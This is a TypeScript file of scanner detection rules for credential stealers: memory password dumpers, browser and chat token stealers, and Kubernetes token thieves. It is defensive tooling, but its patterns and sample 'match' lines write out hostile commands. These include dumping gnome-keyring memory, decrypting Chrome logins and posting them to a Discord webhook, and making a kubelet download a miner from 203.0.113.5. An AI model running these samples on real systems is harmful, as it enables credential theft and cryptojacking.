import { UPLOADS, WALLETS } from './taking.ts'
import type { ContentRule } from './rule.ts'

/** What takes passwords out of memory, browsers and clusters. */
export const STEALERS_OF_MACHINES: readonly ContentRule[] = [
  {
    number: 124,
    name: 'Stealer.Passwords.Memory',
    title: ['Tool that reads passwords out of the memory of others', '从其他进程内存读取口令的工具'],
    kind: 'stealer',
    in: ['program', 'script'],
    severity: 'high',
    when: {
      any: [
        { all: ['mimipenguin'] },
        { all: ['3snake', 'sshd'] },
        {
          all: [
            'gnome-keyring-daemon',
            '/proc/',
            { any: ['/maps', 'gcore', '/mem'] },
            { any: ['_pammodutil_getpwnam_root_1', 'libgcrypt', 'gkr_system_authtok', 'vsftpd'] },
          ],
        },
        {
          all: [
            { any: ['gnome-keyring', 'sshd', 'lightdm', 'vsftpd', 'apache2'] },
            '/maps',
            { any: ['passw', 'libgck', 'libgcrypt', 'pam_'] },
            {
              pattern: /["']\/proc\/(?:["']\s?\+|%[sd]|\{\w{0,20}\}|\$\{?\w{1,20}\}?)[^\n]{0,30}\/mem\b/,
              near: ['/proc/'],
            },
          ],
        },
        {
          pattern: /strace\s[^\n]{0,80}-p\s{0,4}(?:\$\(|\x60)[^\n]{0,80}sshd[^\n]{0,200}(?:read|write)/,
          near: ['strace '],
        },
        {
          all: [
            'strace',
            'sshd',
            { any: ['-e trace=read', '-e read', '-e write'] },
            { any: ['/tmp/', 'nohup', '-o '] },
          ].map((part) => (part === '-o ' ? '-o /' : part)),
        },
        { all: ['LaZagne', { any: ['memorydump', 'softwares', 'lazagne.config'] }] },
      ],
    },
    attack: ['T1003.007', 'T1555'],
    references: ['https://github.com/huntergregal/mimipenguin', 'https://attack.mitre.org/techniques/T1003/007/'],
    match: ['#!/bin/bash', '# mimipenguin', 'gcore -o /tmp/dump $(pidof gnome-keyring-daemon)'],
    harmless: ['#!/bin/bash', 'strace -f -o out ls', 'gnome-keyring-daemon --start'],
  },
  {
    number: 125,
    name: 'Stealer.Browser',
    title: ['Script that takes tokens and passwords of browsers and chats', '窃取浏览器与聊天软件令牌、口令的脚本'],
    kind: 'stealer',
    in: ['script', 'program'],
    when: {
      any: [
        {
          all: [
            {
              any: [
                'Login Data',
                'Local Storage/leveldb',
                'Local Storage\\\\leveldb',
                'key4.db',
                'logins.json',
                'wallet.dat',
                'exodus.wallet',
                'nkbihfbeogaeaoehlefnkodbefgpgknn',
              ],
            },
            {
              any: [
                'discord.com/api/webhooks',
                'discordapp.com/api/webhooks',
                'api.telegram.org/bot',
                'webhook',
                'sendDocument',
                'store1.gofile.io',
                'transfer.sh',
                '/uploads',
              ],
            },
            {
              any: [
                'os_crypt',
                'CryptUnprotectData',
                'encrypted_key',
                'mfa\\.',
                '[\\w-]{24}',
                'Cookies',
                'AES.new',
                'sqlite3',
                '.zip',
              ],
            },
          ],
        },
        { all: [{ atLeast: 3, of: WALLETS }, { any: UPLOADS }] },
      ],
    },
    attack: ['T1555.003', 'T1539'],
    references: ['https://attack.mitre.org/techniques/T1555/003/', 'https://attack.mitre.org/techniques/T1539/'],
    match: [
      '#!/usr/bin/python3',
      'db = home + "/.config/google-chrome/Default/Login Data"',
      'key = state["os_crypt"]["encrypted_key"]',
      'requests.post("https://discord.com/api/webhooks/1/x", files={"f": open(out)})',
    ],
    harmless: ['#!/usr/bin/python3', '# removes Cookies of a test profile', 'os.remove(profile + "/Cookies")'],
  },
  {
    number: 126,
    name: 'Stealer.Kubernetes',
    title: ['Script that takes tokens of a cluster to go on in it', '窃取集群令牌并横向移动的脚本'],
    kind: 'stealer',
    in: ['script', 'program'],
    when: {
      any: [
        {
          all: [
            'serviceaccount/token',
            { any: ['/api/v1/secrets', 'get secrets', '/api/v1/pods', '10250/run/', ':10250/pods'] },
            {
              any: [
                'masscan',
                'xmrig',
                'nsenter',
                'hostPath',
                'authorized_keys',
                'crontab',
                'base64 -d | ',
                'teamtnt',
                'monero',
                ':10250/run',
                'curl -F',
                '/exec?command',
              ],
            },
          ],
        },
        {
          all: [
            'serviceaccount/token',
            { any: ['/secrets', 'get secret'] },
            {
              any: ['--data-binary @', '-F ', '--upload-file', '-T /', '-d @', 'requests.post', '| nc '].map((text) =>
                text.padEnd(4),
              ),
            },
          ],
        },
        { all: [':10250/run/', { any: ['curl', 'wget'] }, { any: ['cmd=', '/tmp', 'masscan', 'xmrig', 'bash'] }] },
      ],
    },
    attack: ['T1528', 'T1610', 'T1552.007'],
    references: [
      'https://unit42.paloaltonetworks.com/hildegard-malware-teamtnt/',
      'https://attack.mitre.org/techniques/T1528/',
    ],
    match: [
      '#!/bin/bash',
      'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)',
      'curl -sk -H "Authorization: Bearer $T" https://$KUBERNETES_SERVICE_HOST/api/v1/secrets',
      'curl -sk https://$node:10250/run/$ns/$pod/$c -d "cmd=curl http://203.0.113.5/xmrig -o /tmp/x"',
    ],
    harmless: [
      '#!/bin/bash',
      'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)',
      'curl -sk -H "Authorization: Bearer $T" https://kubernetes/api/v1/pods',
    ],
  },
]
